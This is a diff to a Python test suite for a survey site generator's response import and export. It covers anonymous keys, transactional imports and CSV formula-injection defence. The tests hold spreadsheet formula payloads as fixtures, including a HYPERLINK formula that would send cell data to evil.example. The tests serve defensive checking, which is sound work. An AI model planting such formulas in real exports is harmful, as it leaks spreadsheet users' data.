@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import dataclasses
 import datetime as dt
 import io
@@ -9,6 +10,7 @@ import json
 import re
 import shutil
 import typing
+import uuid
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -17,13 +19,17 @@ import pytest
 from click.testing import CliRunner
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
+from postgres_fixtures import REFUSED_PREFIX, add_refusal_rule
+from sqlalchemy import create_engine
 
 from sitegen.answers import read_json
 from sitegen.cli import main
-from sitegen.interchange import Format, export_responses, import_responses, jsonl_line
+from sitegen.interchange import Format, export_responses, import_responses, jsonl_line, neutralised, restored
 from sitegen.models import survey as survey_models
 from sitegen.site import Site, load_site
 from sitegen.store import ResponseStore, StoredResponse, survey_version
+from sitegen.store.anonymity import anonymous_key
+from sitegen.store.engine import database_url
 
 REPOSITORY = Path(__file__).parent.parent
 EXAMPLE_FILES = ("sitegen.yaml", "surveys", "content", "data")
@@ -148,18 +154,22 @@ def project(example_project_files: Path, tmp_path: Path, store_url: str) -> Path
 
 
 def stored(site: Site, survey_id: str, submitted_at: str, document: dict[str, Any]) -> StoredResponse:
-    """A response as the collector would store it: through read_json, the one set of rules."""
+    """A response as the collector would store it (through read_json, the one set of rules) and reads it back.
+
+    An anonymous one reads back under its key (a hash of its id).
+    """
     survey = next(source.model for source in site.surveys if source.model.id == survey_id)
     submission = read_json(survey, site.languages, document)
     moment = dt.datetime.fromisoformat(submitted_at).astimezone(dt.UTC)
     return StoredResponse(
-        submission.response_id,
+        anonymous_key(submission.response_id) if survey.is_anonymous else submission.response_id,
         survey_id,
         survey_version(survey),
         moment,
         submission.lang,
         submission.meta,
         submission.answers,
+        is_anonymous=survey.is_anonymous,
     )
 
 
@@ -294,7 +304,8 @@ def test_a_csv_export_has_a_column_per_question_matrix_item_and_meta_key(
         "expectations,stood_out,effort,visit_reason,liked,email"
     )
     assert lines[1].startswith(
-        'visit-0001,after-visit,2026-05-01T10:00:00Z,lv,riga-centre,purchase,Mozilla/5.0 (Android 14; Mobile),6,"Rinda bija gara;'
+        "visit-0001,after-visit,2026-05-01T10:00:00Z,lv,riga-centre,purchase,"
+        'Mozilla/5.0 (Android 14; Mobile),6,"Rinda bija gara;'
     )
     assert lines[-1] == "visit-0002,after-visit,2026-05-01T10:00:00.250000Z,ru,,purchase,,10,,,,1,,,,,,,,,,"
     assert ",coffee;staff;speed,anna@example.com" in export_text(site, memory_store, "csv")
@@ -303,13 +314,13 @@ def test_a_csv_export_has_a_column_per_question_matrix_item_and_meta_key(
 def test_export_is_deterministic(site: Site, memory_store: ResponseStore, samples: list[StoredResponse]) -> None:
     memory_store.add(list(reversed(samples)))
     for file_format in ("jsonl", "csv"):
-        assert export_text(site, memory_store, file_format) == export_text(site, memory_store, file_format)  # type: ignore[arg-type]
+        assert export_text(site, memory_store, file_format) == export_text(site, memory_store, file_format)
     assert [json.loads(line)["id"] for line in export_text(site, memory_store).splitlines()] == [
         "visit-0001",
         "visit-0002",
         "complaint-01",
         "order-000001",
-        "employee-001",
+        anonymous_key("employee-001"),
     ]
 
 
@@ -541,7 +552,10 @@ def test_a_csv_with_a_byte_order_mark_and_crlf_lines_is_read(
 ) -> None:
     path = tmp_path / "excel.csv"
     path.write_bytes(
-        "\ufeffid,survey,submitted_at,recommend,improve\r\nexcel-0001,after-visit,2026-05-01T10:00:00Z,7,Ļoti labi\r\n".encode()
+        (
+            "\ufeffid,survey,submitted_at,recommend,improve\r\n"
+            "excel-0001,after-visit,2026-05-01T10:00:00Z,7,Ļoti labi\r\n"
+        ).encode()
     )
     assert import_responses(site, memory_store, [path]).new == 1
     response = memory_store.get("excel-0001")
@@ -557,6 +571,186 @@ def test_a_line_that_is_not_utf8_is_reported_and_the_others_still_read(
     )
     report = import_responses(site, memory_store, [path])
     assert [str(problem) for problem in report.problems] == [f"{path}:2: not UTF-8 text; save the file as UTF-8"]
+
+
+def test_an_imported_anonymous_answer_is_kept_apart_under_its_key_and_comes_back_to_it(
+    site: Site, store: ResponseStore, store_url: str, tmp_path: Path
+) -> None:
+    answers = dict.fromkeys(
+        ("standards_clear", "standards_possible", "training", "tools", "management_feedback", "management_listens"), 3
+    )
+    path = write(tmp_path, "anon.jsonl", line(id="anon-000001", survey="employee-annual", meta={}, answers=answers))
+    assert import_responses(site, store, [path]).new == 1
+    [kept] = store.responses()
+    assert kept.is_anonymous and kept.id == anonymous_key("anon-000001")
+    engine = create_engine(database_url(store_url, tmp_path))
+    with engine.connect() as connection:
+        assert connection.exec_driver_sql("SELECT count(*) FROM responses").scalar() == 0
+    engine.dispose()
+    exported = write(tmp_path, "exported.jsonl", export_text(site, store))
+    for again in (path, exported):  # the client's id and the exported key are the same response
+        report = import_responses(site, store, [again])
+        assert (report.new, report.existing, report.problems) == (0, 1, [])
+    assert list(store.responses()) == [kept]
+
+
+# ---- import is one transaction -----------------------------------------------------------------
+
+FILE_LINES = 750
+REFUSED_LINES = [1, 500, 501, 701, 750]
+"""First and last lines, both sides of a batch boundary (500), and line 701, where issue 11 found one."""
+SURROGATE = "improve: Remove the invisible control characters from your answer."
+DATABASE_REFUSAL = "cannot be stored: "
+
+
+def surrogate_line(response_id: str) -> str:
+    """A line whose answer holds a lone surrogate: valid JSON (`\\ud800`), but no Unicode text."""
+    return line(id=response_id, answers={"recommend": 3, "improve": "lone SURROGATE"}).replace("SURROGATE", "\\ud800")
+
+
+@pytest.mark.parametrize("refused_line", REFUSED_LINES)
+@pytest.mark.parametrize(
+    ("caught_by", "skip_invalid", "message", "imported"),
+    [
+        ("check", False, SURROGATE, 0),
+        ("check", True, SURROGATE, FILE_LINES - 1),
+        ("store", False, DATABASE_REFUSAL, 0),
+        ("store", True, DATABASE_REFUSAL, 0),
+    ],
+    ids=["at check time", "at check time, skipped", "at store time", "at store time, not skippable"],
+)
+def test_a_line_that_cannot_be_stored_leaves_the_store_as_it_was_and_is_named_by_its_line(
+    site: Site,
+    store: ResponseStore,
+    store_url: str,
+    samples: list[StoredResponse],
+    tmp_path: Path,
+    caught_by: str,
+    skip_invalid: bool,
+    message: str,
+    imported: int,
+    refused_line: int,
+) -> None:
+    if caught_by == "store":  # a rule of the database that sitegen's checks do not know refuses the line
+        add_refusal_rule(store_url, tmp_path)
+    store.add(samples)
+    before = export_text(site, store)
+    refused = surrogate_line("line-refused") if caught_by == "check" else line(id=f"{REFUSED_PREFIX}line")
+    lines = [
+        refused if number == refused_line else line(id=f"line-{number:04d}") for number in range(1, FILE_LINES + 1)
+    ]
+    path = write(tmp_path, "surrogate.jsonl", "\n".join(lines) + "\n")
+    report = import_responses(site, store, [path], skip_invalid=skip_invalid)
+    assert [(problem.path, problem.line) for problem in report.problems] == [(str(path), refused_line)]
+    assert message in report.problems[0].message
+    assert report.is_refused == (imported == 0)
+    assert store.count() == len(samples) + imported
+    if not imported:
+        assert export_text(site, store) == before
+
+
+def test_cli_names_the_line_the_store_refused_without_a_traceback(
+    project: Path, tmp_path: Path, store_url: str
+) -> None:
+    ResponseStore.open(store_url, project).close()  # the tables, for the database's own rule
+    add_refusal_rule(store_url, project)
+    lines = [line(id=f"line-{number:04d}") for number in range(1, 3)]
+    path = write(tmp_path, "in.jsonl", "\n".join([*lines, line(id=f"{REFUSED_PREFIX}0003")]))
+    result = CliRunner().invoke(main, ["-C", str(project), "responses", "import", str(path)])
+    assert result.exit_code == 1 and result.exception is not None and isinstance(result.exception, SystemExit)
+    assert result.stderr.startswith(f"{path}:3: cannot be stored: ")
+    assert result.stderr.endswith("Stopped: the store refused a line. Nothing was imported.\n")
+    assert "Traceback" not in result.output
+    exported = run("-C", str(project), "responses", "export")
+    assert exported.stdout == ""
+
+
+# ---- CSV cells a spreadsheet would run -----------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
+        ("+41 79 000 00 00", "'+41 79 000 00 00"),
+        ("-3", "'-3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("'", "''"),
+        ("'=1", "''=1"),
+        ("''", "'''"),
+        ("a=1", "a=1"),
+        (" =1", " =1"),
+        ("", ""),
+    ],
+)
+def test_a_cell_a_spreadsheet_would_run_is_marked_as_text_and_import_unmarks_it(cell: str, written: str) -> None:
+    assert neutralised(cell) == written
+    assert restored(written) == cell
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_a_csv_export_has_no_cell_that_starts_a_formula_and_imports_back_unchanged(
+    site: Site, store: ResponseStore, memory_store: ResponseStore, tmp_path: Path
+) -> None:
+    hostile = [
+        stored(
+            site,
+            "after-visit",
+            "2026-05-01T10:00:00Z",
+            {
+                "rid": f"-hostile-{n:03d}",
+                "answers": {"recommend": 3, "improve": text, "expectations": "exceeded", "stood_out": "'" + text},
+            },
+        )
+        for n, text in enumerate(["=SUM(A1)", "+1", "-2", "@x", "\t=1", "\r=1", "'=1", "''", "plain"])
+    ]
+    user_agent = '=HYPERLINK("http://evil.example","x")'
+    hostile[0] = dataclasses.replace(hostile[0], meta={**hostile[0].meta, "user_agent": user_agent})
+    store.add(hostile)
+    exported = export_text(site, store, "csv")
+    cells = [cell for row in csv.reader(io.StringIO(exported, newline="")) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    report = import_responses(site, memory_store, [write(tmp_path, "export.csv", exported)])
+    assert report.problems == []
+    assert list(memory_store.responses()) == list(store.responses())
+
+
+STARTS = st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "'", "'=", "''", "'\t"])
+META_TEXT = st.text(st.characters(codec="utf-8", blacklist_characters="\x00"), min_size=1, max_size=40)
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(
+    improve=st.tuples(STARTS, TEXT).map("".join),
+    stood_out=st.tuples(STARTS, TEXT).map("".join),
+    user_agent=st.tuples(STARTS, META_TEXT).map("".join),
+    file_format=st.sampled_from(["jsonl", "csv"]),
+)
+def test_any_text_answer_and_meta_survive_export_then_import(
+    site: Site,
+    store: ResponseStore,
+    tmp_path_factory: pytest.TempPathFactory,
+    improve: str,
+    stood_out: str,
+    user_agent: str,
+    file_format: Format,
+) -> None:
+    rid = f"text-{uuid.uuid4().hex}"  # one target store serves every example
+    answers = {"recommend": 3, "improve": improve, "expectations": "exceeded", "stood_out": stood_out}
+    response = stored(site, "after-visit", "2026-05-01T10:00:00Z", {"rid": rid, "answers": answers})
+    response = dataclasses.replace(response, meta={**response.meta, "user_agent": user_agent})
+    directory = tmp_path_factory.mktemp("text")
+    with ResponseStore.open("sqlite://", directory) as source:
+        source.add([response])
+        path = write(directory, "text" + EXTENSIONS[file_format], export_text(site, source, file_format))
+    report = import_responses(site, store, [path])
+    assert report.problems == []
+    assert store.get(rid) == response
 
 
 # ---- the command line --------------------------------------------------------------------------
@@ -586,7 +780,8 @@ def test_cli_reports_every_bad_line_and_imports_nothing(project: Path, tmp_path:
     result = run("-C", str(project), "responses", "import", str(path))
     assert result.exit_code == 1
     assert result.stderr == (
-        f"{path}:2: survey 'x' does not exist\n{path}:3: recommend: Enter a number.\nStopped: 2 invalid lines. Nothing was imported.\n"
+        f"{path}:2: survey 'x' does not exist\n{path}:3: recommend: Enter a number.\n"
+        "Stopped: 2 invalid lines. Nothing was imported.\n"
     )
     assert result.stdout == ""
     assert run("-C", str(project), "responses", "export").stderr == "Exported 0 responses.\n"
